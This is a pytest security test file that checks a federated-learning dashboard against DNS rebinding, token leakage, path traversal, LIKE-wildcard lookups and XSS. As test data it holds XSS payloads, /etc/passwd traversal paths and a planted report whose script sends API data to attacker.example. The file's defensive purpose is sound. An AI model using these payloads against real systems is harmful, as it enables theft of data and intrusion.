"""Attacks on the read-only dashboard: each test fails where the dashboard is vulnerable.

Attackers: a web page visited by the central team's browser (DNS rebinding, CSRF,
cross-origin reads), anyone on the network of a dashboard that listens beyond loopback with a
token, and a malicious federated site that controls strings that reach the store.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, text

from radfed.dashboard import create_app
from radfed.dashboard.access import COOKIE_NAME
from radfed.store import open_store, sync_run
from tests.dashboard.conftest import LOOPBACK, RUN_ID, TOKEN, TestClient, _event, write_run

pytestmark = pytest.mark.filterwarnings(
    "ignore:The anyio.abc.BlockingPortal alias is deprecated:DeprecationWarning"
)

_STATIC = Path(__file__).resolve().parents[2] / "radfed" / "dashboard" / "static"
_XSS = '"><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>'
_SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options")


@pytest.fixture
def guarded(engine: Engine) -> Iterator[TestClient]:
    """The dashboard with a token, addressed as if it listened on the network."""
    app = create_app(engine, token=TOKEN)
    with TestClient(app, base_url="http://10.0.0.5:8765", raise_server_exceptions=False) as c:
        yield c


@pytest.fixture
def open_client(engine: Engine) -> Iterator[TestClient]:
    """The token-less dashboard; server errors come back as responses, not exceptions."""
    with TestClient(create_app(engine), base_url=LOOPBACK, raise_server_exceptions=False) as c:
        yield c


def _leaks(body: str) -> list[str]:
    signs = ("Traceback", 'File "/', "sqlalchemy", "sqlite3", "SELECT ", "/tmp/", '.py"')
    return [s for s in signs if s in body]


# ------------------------------------------------------------------ Host / DNS rebinding


_REBINDING_HOSTS = (
    "attacker.example",
    "attacker.example:8765",
    "127.0.0.1.attacker.example",
    "localhost.attacker.example",
    "localhost.",
    "0.0.0.0",
    "0.0.0.0:8765",
    "127.1",
    "2130706433",
    "0x7f000001",
    "[::ffff:7f00:1]",
    "localhost:80:attacker.example",
    "",
)


def test_rebinding_hosts_are_refused_without_a_token(open_client: TestClient) -> None:
    answered = []
    for host in _REBINDING_HOSTS:
        for path in ("/api/runs", f"/api/runs/{RUN_ID}", "/", f"/runs/{RUN_ID}/report"):
            response = open_client.get(path, headers={"host": host})
            if response.status_code != 400 or RUN_ID in response.text:
                answered.append((host, path, response.status_code))
    assert answered == []


def test_cross_origin_reads_get_no_cors_and_isolation_headers(open_client: TestClient) -> None:
    response = open_client.get(
        "/api/runs", headers={"origin": "https://attacker.example", "sec-fetch-site": "cross-site"}
    )
    assert "access-control-allow-origin" not in response.headers
    assert response.headers["cross-origin-resource-policy"] == "same-origin"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"].startswith("application/json")


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
def test_state_changing_methods_are_refused(guarded: TestClient, method: str) -> None:
    response = guarded.request(method, "/api/runs", headers={"authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 405
    assert "access-control-allow-origin" not in response.headers


# ------------------------------------------------------------------ token


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"authorization": f"Bearer {TOKEN[:-1]}"},
        {"authorization": f"Bearer {TOKEN}x"},
        {"authorization": f"Basic {TOKEN}"},
        {"authorization": TOKEN},
        {"cookie": f"{COOKIE_NAME}={TOKEN}"},  # the raw token is not the session
        {"cookie": f"{COOKIE_NAME}="},
        {"authorization": ("Bearer " + "\u00e9" * len(TOKEN)).encode("latin-1")},
    ],
)
def test_no_data_without_the_token(guarded: TestClient, headers: dict[str, Any]) -> None:
    for path in ("/", f"/runs/{RUN_ID}", f"/runs/{RUN_ID}/report", "/api/runs", "/static/run.js"):
        guarded.cookies.clear()
        response = guarded.get(path, headers=headers)
        assert response.status_code == 401, (path, headers)
        assert RUN_ID not in response.text and "site-b" not in response.text


def test_the_api_ignores_a_query_token(guarded: TestClient) -> None:
    response = guarded.get(f"/api/runs?token={TOKEN}")
    assert response.status_code == 401
    assert COOKIE_NAME not in response.headers.get("set-cookie", "")


def test_a_wrong_query_token_gets_no_cookie(guarded: TestClient) -> None:
    response = guarded.get(f"/?token={TOKEN[:-1]}X")
    assert response.status_code == 401
    assert "set-cookie" not in response.headers


def test_the_session_cookie_is_not_the_token_and_is_locked_down(guarded: TestClient) -> None:
    response = guarded.get(f"/runs/{RUN_ID}?token={TOKEN}", follow_redirects=False)
    cookie = response.headers["set-cookie"]
    assert TOKEN not in cookie
    lowered = cookie.lower()
    assert "httponly" in lowered and "samesite=strict" in lowered and "path=/" in lowered
    assert TOKEN not in response.text
    assert response.headers["referrer-policy"] == "no-referrer"
    assert guarded.get("/api/runs").status_code == 200  # the cookie alone now suffices


def test_token_is_never_echoed_in_errors(guarded: TestClient) -> None:
    auth = {"authorization": f"Bearer {TOKEN}"}
    for path in (f"/runs/nope?token={TOKEN}", f"/nowhere?token={TOKEN}", "/api/runs/nope"):
        response = guarded.get(path, headers=auth)
        assert TOKEN not in response.text, path


def test_a_page_loaded_with_the_token_drops_it_from_the_address(guarded: TestClient) -> None:
    # The report page and the message pages run no script (RF.forgetToken never runs there):
    # the token stays in the address bar, the history and bookmarks unless the server itself
    # redirects to the address without ?token= once it has set the cookie.
    response = guarded.get(f"/runs/{RUN_ID}/report?token={TOKEN}", follow_redirects=False)
    assert response.status_code in (302, 303, 307), response.status_code
    assert "token=" not in response.headers["location"]


# ------------------------------------------------------------------ the stored HTML report


def _hostile_report(tmp_path: Path) -> Engine:
    run = write_run(tmp_path / "run-evil")
    (run / "bias_report.html").write_text(
        "<html><head><base href='https://attacker.example/'>"
        "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">"
        "<script>fetch('/api/runs').then(r=>r.text()).then(t=>navigator.sendBeacon("
        "'https://attacker.example/',t))</script></head>"
        f"<body onload='alert(1)'>{_XSS}<iframe src='/api/runs'></iframe>"
        "<form action='https://attacker.example/'><input name=q></form>"
        "<link rel=stylesheet href='https://attacker.example/x.css'></body></html>"
    )
    engine = open_store(f"sqlite:///{tmp_path / 'evil.sqlite'}")
    sync_run(engine, run)
    return engine


def test_the_stored_report_cannot_run_script_or_reach_out(tmp_path: Path) -> None:
    engine = _hostile_report(tmp_path)
    try:
        with TestClient(create_app(engine), base_url=LOOPBACK) as client:
            response = client.get(f"/runs/{RUN_ID}/report")
    finally:
        engine.dispose()
    assert response.status_code == 200
    policies = response.headers.get_list("content-security-policy")
    assert len(policies) == 1, policies  # the dashboard's looser policy is not added
    directives = {d.strip().split(" ")[0]: d.strip() for d in policies[0].split(";")}
    assert directives["sandbox"] == "sandbox"  # opaque origin, no allow-scripts
    assert directives["default-src"] == "default-src 'none'"
    assert "script-src" not in directives and "connect-src" not in directives
    assert directives["frame-ancestors"] == "frame-ancestors 'none'"
    assert directives["form-action"] == "form-action 'none'"
    assert directives["base-uri"] == "base-uri 'none'"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"].startswith("text/html")


# ------------------------------------------------------------------ paths and run refs


_TRAVERSALS = (
    "/static/../app.py",
    "/static/%2e%2e/app.py",
    "/static/..%2fapp.py",
    "/static/%2e%2e%2f%2e%2e%2fpyproject.toml",
    "/static/..%5capp.py",
    "/static//etc/passwd",
    "/static/",
    "/static/%00",
    "/runs/..%2f..%2fetc%2fpasswd/report",
    "/api/runs/..%2f..%2fetc%2fpasswd",
)


def test_no_traversal(client: TestClient) -> None:
    for path in _TRAVERSALS:
        response = client.get(path)
        assert response.status_code == 404, (path, response.status_code)
        assert "import " not in response.text and "root:" not in response.text


def test_like_wildcards_in_a_run_reference_name_no_run(client: TestClient) -> None:
    # find_run uses runs.c.id.startswith(ref) without autoescape: '%' and '_' are LIKE
    # wildcards, so '/api/runs/%25' resolves the only run (or counts the runs).
    resolved = []
    for ref in ("%25", "_", "%25%25", "0123%25", "_" * 32, "%5F%25"):
        response = client.get(f"/api/runs/{ref}")
        if response.status_code != 404:
            resolved.append((ref, response.status_code))
    assert resolved == []


def test_a_run_reference_is_escaped_on_error_pages(client: TestClient) -> None:
    response = client.get("/runs/%3Cscript%3Ealert(1)%3C%5Cscript%3E")
    assert response.status_code == 404
    assert "<script>alert(1)" not in response.text and "&lt;script&gt;" in response.text


def test_a_hostile_run_id_is_escaped_in_the_run_page(tmp_path: Path) -> None:
    run = write_run(tmp_path / "run-x")
    config = json.loads((run / "config.json").read_text())
    config["run-id"] = 'x" onmouseover="alert(1)"><script>alert(1)<\\script>'
    (run / "config.json").write_text(json.dumps(config))
    engine = open_store(f"sqlite:///{tmp_path / 'x.sqlite'}")
    try:
        sync_run(engine, run)
        with TestClient(create_app(engine), base_url=LOOPBACK) as client:
            page = client.get("/runs/run-x", follow_redirects=True)
    finally:
        engine.dispose()
    assert page.status_code == 200
    assert "<script>alert(1)" not in page.text and 'onmouseover="alert' not in page.text


# ------------------------------------------------------------------ errors and huge inputs


_HUGE = (
    "after=99999999999999999999999999",
    "after=9223372036854775808",
    "limit=99999999999999999999999999",
    "after=-99999999999999999999",
    "after=1e400",
)


def test_huge_numbers_are_refused_cleanly(open_client: TestClient) -> None:
    # after= has no upper bound: SQLite's driver raises OverflowError (not a SQLAlchemyError),
    # so the request ends in a bare 500 without the security headers.
    broken = []
    for query in _HUGE:
        response = open_client.get(f"/api/runs/{RUN_ID}/events?{query}")
        assert not _leaks(response.text)
        missing = [name for name in _SECURITY_HEADERS if name not in response.headers]
        if response.status_code >= 500 or missing:
            broken.append((query, response.status_code, missing))
    assert broken == []


def test_long_curve_parameters_are_refused(client: TestClient) -> None:
    response = client.get(f"/api/runs/{RUN_ID}/curves?split={'v' * 10_000}&metric=auc")
    assert response.status_code == 422
    assert len(response.content) < 20_000


def test_a_failing_store_leaks_no_sql_or_paths(engine: Engine, open_client: TestClient) -> None:
    with engine.begin() as conn:
        conn.execute(text("DROP TABLE events"))
    response = open_client.get(f"/api/runs/{RUN_ID}/events")
    assert response.status_code == 503
    assert not _leaks(response.text), response.text[:300]
    page = open_client.get("/api/runs")  # sites table intact: still answers
    assert page.status_code == 200


def test_validation_errors_do_not_reflect_as_html(open_client: TestClient) -> None:
    response = open_client.get(f"/api/runs/{RUN_ID}/events?after=%3Cscript%3E")
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"


# ------------------------------------------------------------------ the pages' scripts

_SHIM = r"""
const sinks = [];
class Node {
  constructor(tag) {
    this.tagName = tag; this.children = []; this.attrs = {}; this.dataset = {};
    this.className = ""; this.value = ""; this.scrollTop = 0; this.scrollHeight = 0;
    this.clientHeight = 0;
    this.max = 0;
    this.classList = { toggle() {}, add() {}, remove() {} };
  }
  get firstChild() { return this.children[0] || null; }
  removeChild(c) { this.children.splice(this.children.indexOf(c), 1); return c; }
  append(...cs) {
    for (const c of cs) this.children.push(c instanceof Node ? c : new Text(String(c)));
  }
  appendChild(c) { this.append(c); return c; }
  get rows() { return this.children.filter((c) => c.tagName === "tr"); }
  deleteRow(i) { this.removeChild(this.rows[i]); }
  get options() { return this.children.filter((c) => c.tagName === "option"); }
  get textContent() { return this.children.map((c) => c.textContent).join(""); }
  set textContent(v) { this.children = [new Text(String(v))]; }
  set innerHTML(v) { sinks.push(["innerHTML", String(v)]); }
  set outerHTML(v) { sinks.push(["outerHTML", String(v)]); }
  insertAdjacentHTML(p, v) { sinks.push(["insertAdjacentHTML", String(v)]); }
  setAttribute(k, v) {
    const name = String(k).toLowerCase();
    const script = name.startsWith("on") || name === "style" || name === "srcdoc";
    if (script) sinks.push(["attr " + name, v]);
    const link = ["href", "src", "xlink:href", "action", "formaction"].includes(name);
    if (link && !/^\/(?!\/)/.test(v)) sinks.push(["url " + name, v]);
    if (name === "value") this.value = v;
    if (name.startsWith("data-")) this.dataset[name.slice(5)] = v;
    this.attrs[name] = v;
  }
  addEventListener() {}
  querySelector() { return null; }
  querySelectorAll() { return []; }
}
class Text extends Node {
  constructor(data) { super("#text"); this.data = data; }
  get textContent() { return this.data; }
}
const byId = new Map();
const bySelector = new Map();
const body = new Node("body");
body.dataset.runId = __RUN_ID__;
globalThis.Node = Node;
globalThis.document = {
  body, title: "",
  createElement: (t) => new Node(t),
  createElementNS: (ns, t) => new Node(t),
  createTextNode: (t) => new Text(t),
  getElementById: (id) => { if (!byId.has(id)) byId.set(id, new Node(id)); return byId.get(id); },
  querySelector: (s) => {
    if (!bySelector.has(s)) bySelector.set(s, new Node(s.split(" ").pop()));
    return bySelector.get(s);
  },
  write: (v) => sinks.push(["document.write", v]),
};
const realTimeout = setTimeout;
globalThis.window = {
  location: { href: "http://127.0.0.1:8765/runs/x" },
  history: { replaceState() {} },
  setTimeout() {},
};
const responses = __RESPONSES__;
const asked = [];
globalThis.fetch = async (url) => {
  asked.push(url);
  const found = Object.prototype.hasOwnProperty.call(responses, url);
  return { ok: found, status: found ? 200 : 404,
           json: async () => (found ? JSON.parse(responses[url]) : { error: "missing " + url }) };
};
realTimeout(() => {
  const rows = (s) => document.querySelector(s).rows.length;
  process.stdout.write(JSON.stringify({
    sinks, asked,
    problem: document.getElementById("problem").textContent,
    events: rows("#events tbody"), sites: rows("#sites tbody"), latest: rows("#latest tbody"),
    sitesText: document.querySelector("#sites tbody").textContent,
    eventsText: document.querySelector("#events tbody").textContent,
  }));
}, 300);
"""


def _run_page(client: TestClient, run_id: str, tmp_path: Path) -> dict[str, Any]:
    """Run common.js, plot.js and run.js in node over a fake DOM fed by the app's API."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    urls = [f"/api/runs/{run_id}", f"/api/runs/{run_id}/events?after=-1&limit=500"]
    responses = {}
    for url in urls:
        reply = client.get(url)
        assert reply.status_code == 200, url
        responses[url] = reply.text
    shim = _SHIM.replace("__RUN_ID__", json.dumps(run_id)).replace(
        "__RESPONSES__", json.dumps(responses)
    )
    scripts = [(_STATIC / name).read_text() for name in ("common.js", "plot.js", "run.js")]
    page = tmp_path / "page.js"
    page.write_text(shim + "\n;" + "\n;".join(scripts))
    done = subprocess.run([node, str(page)], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr[-2000:]
    seen: dict[str, Any] = json.loads(done.stdout)
    return seen


def _add_events(run: Path, *lines: str) -> None:
    with (run / "events.jsonl").open("a") as handle:
        handle.write("\n".join(lines) + "\n")


def test_hostile_site_strings_reach_the_page_as_text_only(tmp_path: Path) -> None:
    run = write_run(tmp_path / "run-one")
    _add_events(
        run,
        _event("site-error", round_=2, site=_XSS, code=1, level=_XSS, message=_XSS),
        _event("dropped", round_=2, site="javascript:alert(1)", message=_XSS),
    )
    engine = open_store(f"sqlite:///{tmp_path / 'h.sqlite'}")
    try:
        sync_run(engine, run)
        with TestClient(create_app(engine), base_url=LOOPBACK) as client:
            seen = _run_page(client, RUN_ID, tmp_path)
    finally:
        engine.dispose()
    assert seen["sinks"] == []
    assert seen["problem"] == "" and seen["events"] > 0 and seen["sites"] > 0
    assert _XSS in seen["sitesText"] and _XSS in seen["eventsText"]


@pytest.mark.parametrize("site", ["constructor", "__proto__", "hasOwnProperty"])
def test_a_site_named_like_an_object_property_cannot_blind_the_run_page(
    tmp_path: Path, site: str
) -> None:
    # run.js:279 `points: bySite[name] || []`: for a site in d.sites without curve points
    # (it failed, or has not reported yet) bySite["constructor"] is Object itself, so
    # s.points.filter throws in RF.plot; refresh() then stops before loadEvents: no chart,
    # no legend and an empty event log, on every refresh. "constructor" passes
    # SITE_NAME_RULE, so even a PKI-registered site may carry it.
    run = write_run(tmp_path / "run-one")
    _add_events(run, _event("site-error", round_=2, site=site, code=1, message="error code 1"))
    engine = open_store(f"sqlite:///{tmp_path / 'p.sqlite'}")
    try:
        sync_run(engine, run)
        with TestClient(create_app(engine), base_url=LOOPBACK) as client:
            seen = _run_page(client, RUN_ID, tmp_path)
    finally:
        engine.dispose()
    assert seen["sinks"] == []
    assert seen["problem"] == "", seen["problem"]
    assert seen["events"] > 0


def test_no_html_sinks_in_the_scripts() -> None:
    sinks = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
        'setTimeout("',
        "srcdoc",
        "javascript:",
    )
    for script in _STATIC.glob("*.js"):
        source = script.read_text()
        found = [s for s in sinks if s in source]
        assert not found, (script.name, found)
